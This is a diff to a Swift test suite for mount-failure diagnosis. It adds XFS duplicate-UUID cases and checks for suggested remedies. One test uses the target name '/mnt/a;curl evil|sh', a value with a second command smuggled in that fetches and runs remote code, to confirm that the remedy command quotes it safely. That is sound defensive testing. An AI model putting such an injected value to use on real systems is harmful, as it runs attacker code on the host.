@@ -37,6 +37,7 @@ struct FailureTests {
         let anonymous = try smb()
         let sealed = try smb([.init("encryption", "required")], [.init("credential", "c")])
         let image = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "ext4")])
+        let template = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "xfs")])
         let scratch = try tmpfs()
         return [
             FailureCase(files, 19, .filesystemUnsupported), FailureCase(files, 22, .tagNotFound),
@@ -86,6 +87,10 @@ struct FailureTests {
             FailureCase(sealed, 95, .encryptionRequired),
             FailureCase(image, 117, .imageDamaged), FailureCase(image, 22, .imageDamaged), FailureCase(image, 74, .imageDamaged),
             FailureCase(image, 2, .imageNotFound), FailureCase(image, 30, .readOnlySource), FailureCase(image, 16, .alreadyAttached),
+            FailureCase(
+                template, 22, .alreadyAttached,
+                log: ["XFS (loop1): Filesystem has duplicate UUID 23030afb-fd8e-4091-817d-6ff529da0628 - can't mount"]),
+            FailureCase(template, 22, .imageDamaged, log: ["XFS (loop1): Superblock has bad magic number 0x0. Not an XFS filesystem?"]),
             FailureCase(image, 5, .ioError), FailureCase(image, 19, .filesystemUnsupported),
             FailureCase(scratch, 22, .optionRefused, log: ["tmpfs: Bad value for 'size'"]), FailureCase(scratch, 12, .memoryExhausted),
             FailureCase(scratch, 28, .memoryExhausted), FailureCase(scratch, 13, .securityModuleDenied),
@@ -121,6 +126,25 @@ struct FailureTests {
         #expect(code([begun], isWhole: true) == .accessDenied)
         #expect(code([begun], isWhole: false) == .credentialRejected)
         #expect(code([begun, "CIFS: VFS: \\\\nas Send error in SessSetup = -13"], isWhole: true) == .credentialRejected)
+    }
+
+    @Test("XFS images of one template are mounted beside each other with the option that is named")
+    func duplicate() throws {
+        let template = try share([.init("type", "image"), .init("label", "data"), .init("filesystem", "xfs")])
+        let failure = MountFailure(
+            errno: 22, errnoName: "EINVAL", errnoText: "", attempt: "xfs",
+            kernelLog: ["XFS (vdb): Filesystem has duplicate UUID 1 - can't mount"])
+        let remedy = try MountPlan.make(template, policy: .standard).cause(of: failure, source: template.source).remedy
+        #expect(remedy.contains { $0.contains("options: {nouuid: true}") } && remedy.contains { $0.contains("xfs_admin -U generate") })
+        #expect(try MountPlan.make(template.with(options: ["nouuid": "true"]), policy: .standard).text().contains("nouuid"))
+    }
+
+    @Test("a command in a remedy takes a target from the host for a name")
+    func quoted() throws {
+        let share = try tmpfs([.init("target", "/mnt/a;curl evil|sh")])
+        let failure = MountFailure(errno: 16, errnoName: "EBUSY", errnoText: "", attempt: "tmpfs")
+        let cause = try MountPlan.make(share, policy: .standard).cause(of: failure, source: share.source)
+        #expect(cause.remedy == ["findmnt '/mnt/a;curl evil|sh'"])
     }
 
     @Test("only a version that the server does not speak leads to the next one")
